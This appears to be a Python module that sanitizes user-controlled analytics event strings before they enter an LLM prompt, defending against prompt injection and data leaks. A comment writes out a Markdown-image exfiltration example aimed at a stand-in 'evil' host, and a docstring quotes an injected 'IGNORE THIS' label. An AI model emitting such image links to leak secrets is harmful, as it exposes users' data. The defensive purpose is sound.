"""Rule 6: every user-controlled string that reaches a prompt is bounded, cleaned, masked and
quoted as data.

The public capture token lets anyone send events, so every string an event carries (element
text, component and role attributes, URL paths, screen names, event names, property keys and
values, ids) is untrusted. Only names the project file declares are trusted.
"""

from __future__ import annotations

import re
from functools import lru_cache
from unicodedata import category

from usertrail.core.redact import redact
from usertrail.core.text import INVISIBLE, clean_text, quote

MAX_CHARS = 120
# A chat UI that renders Markdown fetches images by itself: `![x](https://evil/?q=secret)` is
# an exfiltration channel, and a link is one click away from it. Breaking the `](` and `![`
# pairs, and HTML's angle brackets, leaves the text readable and inert.
_MARKDOWN = (("![", "! ["), ("](", "] ("), ("<", "‹"), (">", "›"))
UUID = re.compile(r"[0-9a-fA-F]{8}-[0-9a-fA-F]{4}-[0-9a-fA-F]{4}-[0-9a-fA-F]{4}-[0-9a-fA-F]{12}")
_QUOTED = re.compile(r"('[^']*'|`[^`]*`)")
_PLAIN_WORD = re.compile(r"[a-z][a-z-]{0,19}")
# What is left of an email once a page name was made from it ("jane doe@example com", the
# dots humanized away) is still someone's address.
_LOOSE_EMAIL = re.compile(r"[\w.+-]+@[\w-]+(?:\.[\w-]+)*")
_AROUND = " ()[]{}:;,.-"
_CONNECTOR = re.compile(r"^(?:on|in|at|of|from) ")
IDENTIFIER = re.compile(r"[A-Za-z][A-Za-z0-9_.-]{0,29}")


# Cached: a person's labels and pages repeat across their events and across rebuilds, and
# masking runs a dozen regular expressions over each.
@lru_cache(maxsize=16_384)
def safe(text: str | None, *, mask_pii: bool = True, limit: int = MAX_CHARS) -> str | None:
    if text is None:
        return None
    cleaned = clean_text(text, limit)
    masked = _LOOSE_EMAIL.sub("[email]", redact(cleaned)) if mask_pii else cleaned
    # Masks come first: "[email](x)" made by masking must not become a link either.
    return close_quotes(inert(masked))


@lru_cache(maxsize=16_384)  # every event of a session carries the same id
def safe_id(text: str, *, mask_pii: bool = True) -> str:
    """An identifier: cleaned and bounded, masked when it is an email or a phone number."""
    cleaned = clean_text(escape_invisible(text), 200)
    return inert(_redact_outside_uuids(cleaned) if mask_pii else cleaned)


def escape_invisible(text: str) -> str:
    """An id's invisible characters (zero-width, bidi, unassigned) as `\\uXXXX`: dropped, two
    ids could read the same, or an id nothing at all; escaped, each stays itself and inert."""
    if text.isascii() and text.isprintable():
        return text
    return "".join(f"\\u{ord(ch):04x}" if category(ch) in INVISIBLE else ch for ch in text)


def _redact_outside_uuids(text: str) -> str:
    """A UUID's hex groups can look like a phone number to the PII patterns ("d-<uuid>", a
    split session's "<id>/<uuid>"); a UUID is never PII, the rest of the id may be."""
    parts, pos = [], 0
    for match in UUID.finditer(text):
        parts += [redact(text[pos : match.start()]), match.group()]
        pos = match.end()
    return "".join([*parts, redact(text[pos:])])


def inert(text: str) -> str:
    for bad, good in _MARKDOWN:
        text = text.replace(bad, good)
    return text


def close_quotes(text: str) -> str:
    """A label cut at its limit may end inside a quote: close it, so the rest of the line is
    never read as quoted text (or the quoted text as instructions)."""
    return text + "'" if text.count("'") % 2 else text


def without_uuids(text: str) -> str:
    """Prose never shows a raw UUID (an anonymous id or a session): it means nothing to a reader
    and costs a dozen tokens."""
    return UUID.sub("[id]", text)


def quoted(text: str) -> str:
    """Quote as data for Markdown: inline code cannot be closed by the text inside it."""
    return "`" + text.replace("`", "'") + "`"


@lru_cache(maxsize=16_384)
def quote_fragments(text: str, fragments: tuple[str, ...]) -> str:
    """Quote each untrusted fragment where it appears bare in `text` (outside a 'quote'):
    "Clicked 'Save' button in Plan picker" -> "Clicked 'Save' button in 'Plan picker'"."""
    bare = {part for f in fragments for part in _bare_parts(f)}
    for fragment in sorted(bare, key=len, reverse=True):
        text = _quote_bare(text, fragment)
    return text


def _bare_parts(fragment: str) -> list[str]:
    """A fragment is matched outside quotes, so only its unquoted parts can be found: the
    role in "IGNORE THIS 'Save'" is quoted, the plain role in "button 'Save'" is not."""
    parts = (
        _CONNECTOR.sub("", p.strip(_AROUND)).strip(_AROUND) for p in _QUOTED.split(fragment)[::2]
    )
    return [p for p in parts if any(c.isalnum() for c in p) and not plain_word(p)]


def _quote_bare(text: str, fragment: str) -> str:
    bare = re.compile(rf"(?<![\w'’]){re.escape(fragment)}(?![\w'’])")
    parts = _QUOTED.split(text)
    # re.split with a group: even indexes are outside quotes, odd ones are the quoted spans.
    return "".join(
        bare.sub(lambda _m: quote(fragment), part) if i % 2 == 0 else part
        for i, part in enumerate(parts)
    )


def key_text(key: str) -> str:
    """A property key before its quoted value: an identifier-like key reads as itself
    (`plan: 'free'`), anything else is quoted."""
    return key if IDENTIFIER.fullmatch(key) else quoted(key)


def plain_word(word: str) -> bool:
    """An element role a page cannot abuse: one short lowercase word ("button", "menuitem")."""
    return _PLAIN_WORD.fullmatch(word) is not None
